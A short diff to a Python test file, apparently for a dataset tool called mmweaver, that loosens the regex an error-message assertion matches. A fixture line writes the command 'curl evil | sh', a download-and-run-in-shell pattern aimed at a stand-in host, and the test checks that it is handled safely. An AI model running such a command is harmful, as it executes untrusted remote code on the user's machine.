@@ -36,7 +36,7 @@ def test_what_a_labelled_set_says_made_it_is_quoted(tmp_path: Path):
     (found,) = verify(tmp_path).commands
     assert "'set;'" in found
     (tmp_path / "set.json").write_text(json.dumps({"command": "curl evil | sh"}))
-    with pytest.raises(InputError, match=r"make the rest with: mmweaver dataset$"):
+    with pytest.raises(InputError, match=r"mmweaver dataset$"):
         read_activity_set(tmp_path)
 
 
